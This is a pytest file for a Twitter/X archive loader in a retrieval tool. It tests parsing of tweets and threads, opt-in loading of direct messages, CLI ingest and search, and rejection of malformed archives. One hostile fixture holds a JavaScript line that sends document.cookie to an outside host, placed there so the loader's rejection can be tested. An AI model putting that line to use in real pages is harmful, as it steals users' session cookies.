"""Twitter/X archives: sample_docs/twitter_archive.zip (written by make_twitter.py) read as a zip and as the
folder it unzips to; threads, t.co links, note tweets, retweets, the "@handle, date" locator, direct messages
only with --include-dms, and hostile archives that fail with the file's name and the fix."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import SAMPLES, sample_script

from ingest.loaders import ytd
from ingest.loaders.safezip import Folder
from ingest.loaders.twitter import load_twitter, load_twitter_with_dms, twitter_document
from ingest.registry import default_registry
from ingest.scan import scan_folder
from rag.core.errors import LoaderError
from rag.core.types import render_locator

ARCHIVE = SAMPLES / "twitter_archive.zip"
RAG = str(Path(sys.executable).with_name("rag"))
HASHING = ("--embedder", "hashing-256")


def unzipped(target: Path) -> Path:
    with zipfile.ZipFile(ARCHIVE) as z:
        z.extractall(target)
    return target


def rag(*args: str) -> dict:
    result = subprocess.run([RAG, *args, "--json"], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_the_sample_is_what_make_twitter_writes(tmp_path: Path) -> None:
    sample_script("make_twitter").main(tmp_path)
    assert (tmp_path / "twitter_archive.zip").read_bytes() == ARCHIVE.read_bytes(), "rerun make_twitter.py"


def test_tweets_threads_links_notes_and_the_locator() -> None:
    doc = load_twitter(ARCHIVE, "twitter_archive.zip", "d1")
    assert (doc.kind, doc.title) == ("twitter", "Twitter archive of @brackwater_stn")
    assert {k: doc.meta[k] for k in ("tweets", "threads", "notes", "retweets")} == \
        {"tweets": 8, "threads": 1, "notes": 1, "retweets": 1}
    texts = [s.text for s in doc.sections]
    assert len(texts) == 6   # 8 tweets, three of them one thread
    seals = doc.sections[0]
    assert seals.locator == {"tweet_id": "1367400000000000001", "date": "2021-03-04", "author": "brackwater_stn",
                             "title": "@brackwater_stn"}
    assert render_locator(seals.locator) == "@brackwater_stn, 2021-03-04"
    assert "https://brackwater.example.org/reports/seal-census-2021" in seals.text
    assert not any("t.co/" in t for t in texts)
    thread = doc.sections[1]
    assert thread.locator["tweet_id"] == "1380800000000000002" and thread.text.split("\n\n") == [
        "How our tide gauge works, a thread 🧵",
        "The float rides in a stilling well 3 metres deep, which damps the waves & the wakes of boats.",
        "Its copper float has not been replaced since 1987."]
    assert texts[2] == ("Retweet of @coastwatch: Volunteers wanted for the beach clean at Gullhaven on 22 May. "
                        "Bring gloves!")
    assert texts[3] == "Reply to @coastwatch: We will send four people and the station's van."
    assert "filmed over 14 months off the south jetty" in texts[4] and "…" not in texts[4]   # the note's full text
    assert texts[5] == "Fog over the lagoon this morning [photo]"
    assert not any("boat shed" in t for t in texts)
    assert doc.meta["warnings"] == ["direct messages left out — ingest with --include-dms to add them"]


def test_direct_messages_only_with_include_dms() -> None:
    doc = load_twitter_with_dms(ARCHIVE, "twitter_archive.zip", "d1")
    dm = doc.sections[-1]
    assert "@brackwater_stn: The boat shed key hangs behind the tide table in the radio room." in dm.text
    assert render_locator(dm.locator) == \
        "DM 1500000000000000001-2600000000000000002, 2022-12-01, user 2600000000000000002"
    assert doc.meta["dm_conversations"] == 1 and doc.meta["warnings"] == []
    assert default_registry(include_dms=True)[".zip"].name == "archive+dms"
    assert default_registry(include_dms=True)["twitter/"].name == "twitter+dms"


def test_the_unzipped_folder_is_one_entry_and_reads_like_the_zip(tmp_path: Path) -> None:
    folder = unzipped(tmp_path / "docs" / "my-archive")
    (tmp_path / "docs" / "other.txt").write_text("Another file.\n")
    entries, skipped = scan_folder(tmp_path / "docs", default_registry())
    assert sorted((e.source, e.loader) for e in entries) == [("my-archive", "twitter"), ("other.txt", "text")]
    assert not skipped   # Your archive.html and data/*.js are not listed one by one
    zipped = load_twitter(ARCHIVE, "a", "d")
    assert [s.text for s in load_twitter(folder, "a", "d").sections] == [s.text for s in zipped.sections]


def test_ingest_search_and_include_dms_through_the_cli(tmp_path: Path) -> None:
    docs, index = tmp_path / "docs", str(tmp_path / "index")
    docs.mkdir()
    shutil.copy(ARCHIVE, docs / "twitter_archive.zip")
    unzipped(docs / "unzipped")
    summary = rag("ingest", str(docs), "--index", index, *HASHING)
    assert summary["added"] == 2 and summary["failed"] == []
    kinds = {d["source"]: d["kind"] for d in rag("ls", "--index", index)["documents"]}
    assert kinds == {"twitter_archive.zip": "twitter", "unzipped": "twitter"}
    hit = rag("search", "How many harbour seals were counted on the north sandbank?", "--index", index)["hits"][0]
    assert "214 harbour seals" in hit["text"] and render_locator(hit["locator"]) == "@brackwater_stn, 2021-03-04"
    shed = rag("search", "boat shed key", "--index", index, "-k", "20")["hits"]
    assert not any("boat shed" in h["text"] for h in shed)
    again = rag("ingest", str(docs), "--index", index, "--include-dms")   # another loader: read again
    assert again["changed"] == 2 and again["failed"] == []
    shed = rag("search", "boat shed key", "--index", index)["hits"]
    assert "behind the tide table" in shed[0]["text"] and shed[0]["locator"]["dm"]


def _folder_with(tmp_path: Path, name: str, data: bytes) -> Path:
    folder = unzipped(tmp_path / "archive")
    (folder / "data" / name).write_bytes(data)
    return folder


HOSTILE = {
    "truncated": (b'window.YTD.tweets.part0 = [ {"tweet": {"id_str": "1", "full_text": "cut', "is cut short"),
    "wrong shape": (b'window.YTD.tweets.part0 = {"tweet": {"id_str": "1"}}', "holds a dict, not the list"),
    "not tweets": (b'window.YTD.tweets.part0 = [{"like": {"tweetId": "1"}}, 3]',
                   "none of its 2 items is a tweet"),
    "code": (b'fetch("https://example.org/?" + document.cookie); window.YTD.tweets.part0 = []',
             "not a Twitter archive data file"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_hostile_tweets_file_fails_naming_the_file_and_the_fix(tmp_path: Path, case: str) -> None:
    data, problem = HOSTILE[case]
    folder = _folder_with(tmp_path, "tweets.js", data)
    with pytest.raises(LoaderError) as caught:
        load_twitter(folder, "archive", "d")
    message = str(caught.value)
    assert message.startswith("archive: ") and problem in message, message
    assert "data/tweets.js" in message and "download the archive again" in message


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path: Path) -> None:
    folder = unzipped(tmp_path / "archive")
    size = (folder / "data" / "tweets.js").stat().st_size
    with pytest.raises(LoaderError, match=rf"data/tweets\.js: {size:,} bytes, over the limit of 1,000 .* split it"):
        twitter_document(Folder(folder), "archive", "d", max_bytes=1000)
    assert ytd.MAX_BYTES == 256 << 20


def test_a_broken_extra_part_costs_only_itself(tmp_path: Path) -> None:
    folder = _folder_with(tmp_path, "tweets-part1.js", b'window.YTD.tweets.part1 = [{"tweet": ')
    (folder / "data" / "tweets-part2.js").write_text('window.YTD.tweets.part2 = [{"tweet": {"id_str": "9", '
                                                     '"full_text": "Part two holds the 2024 heron count: 63.", '
                                                     '"created_at": "Mon Apr 01 08:00:00 +0000 2024"}}]')
    doc = load_twitter(folder, "archive", "d")
    assert doc.meta["tweets"] == 9 and doc.sections[-1].text == "Part two holds the 2024 heron count: 63."
    assert any("data/tweets-part1.js: the file is cut short" in w for w in doc.meta["warnings"])


def test_a_hostile_archive_fails_in_the_ingest_and_the_other_files_go_in(tmp_path: Path) -> None:
    docs, index = tmp_path / "docs", str(tmp_path / "index")
    _folder_with(docs, "tweets.js", HOSTILE["truncated"][0])
    (docs / "fine.txt").write_text("The lighthouse keeper retired in 1999.\n")
    summary = rag("ingest", str(docs), "--index", index, *HASHING)
    assert summary["added"] == 1 and [f["source"] for f in summary["failed"]] == ["archive"]
    assert "data/tweets.js: the file is cut short" in summary["failed"][0]["error"]


@pytest.mark.slow
def test_the_bundled_embedder_finds_a_tweet(tmp_path: Path) -> None:
    from rag import Index

    with Index.open(tmp_path / "index") as idx:
        assert idx.ingest(ARCHIVE).added == 1
        hit = idx.search("When does the open day start?", k=1)[0]
    assert "Doors open at 10:00 on Saturday 3 December" in hit.chunk.text
    assert render_locator(hit.chunk.locator) == "@brackwater_stn, 2022-11-15"
